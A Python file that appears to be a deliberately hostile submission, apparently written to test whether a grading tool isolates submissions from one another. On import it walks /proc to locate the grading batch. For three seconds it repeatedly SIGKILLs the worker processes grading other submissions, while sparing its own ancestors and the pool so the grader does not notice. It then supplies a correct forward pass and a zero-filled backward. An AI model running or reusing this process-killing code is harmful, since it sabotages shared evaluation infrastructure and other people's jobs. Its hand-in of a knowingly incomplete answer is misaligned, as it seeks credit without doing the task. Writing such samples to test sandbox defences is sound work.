# Hostile: for 3 s, SIGKILLs again and again every process of its batch that runs other submissions (their workers and fork servers), then answers with a correct forward only.
"""Honest part: the forward (1.5/15); the backward returns zeros.

The batch is the ancestor whose command line names ``--out`` (``gradecheck grade ... --out DIR``).
The attack spares its own ancestors and the batch's pool processes (killing those would make the
batch notice and regrade), so the siblings' workers die while they are being graded.  Only
processes under that batch are touched: nothing else on the machine.
The defence: a worker sees no other process (a PID namespace) or may not signal it (another uid).
"""
import os
import signal
import time

import numpy as np


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as handle:
        return int(handle.read().rsplit(b")", 1)[1].split()[1])


def _cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as handle:
        return handle.read().decode(errors="replace").split("\0")


def _children(pid):
    found = []
    try:
        for task in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{task}/children") as handle:
                found += [int(child) for child in handle.read().split()]
    except OSError:
        pass
    return found


ancestors, batch, pid = set(), None, os.getpid()
try:
    for _ in range(10):
        pid = _parent(pid)
        if pid <= 1:
            break
        ancestors.add(pid)
        if "--out" in _cmdline(pid):
            batch = pid
            break
except (OSError, ValueError, IndexError):
    pass

killed = set()
deadline = time.monotonic() + 3.0
while batch is not None and time.monotonic() < deadline:
    todo = _children(batch)
    while todo:
        pid = todo.pop()
        todo += _children(pid)
        if pid == os.getpid() or pid in ancestors:
            continue
        try:
            if any("multiprocessing" in arg for arg in _cmdline(pid)):
                continue
            os.kill(pid, signal.SIGKILL)
            killed.add(pid)
        except OSError:
            pass
    time.sleep(0.02)
print(f"hostile: killed {len(killed)} processes of the batch")


def forward(weights, inputs, biases):
    W = np.asarray(weights, dtype=float).reshape(3, 4)
    return 1.0 / (1.0 + np.exp(-(W @ inputs + biases)))


def backward(weights, inputs, biases, upstream):
    return np.zeros(12), np.zeros(3), np.zeros(4)
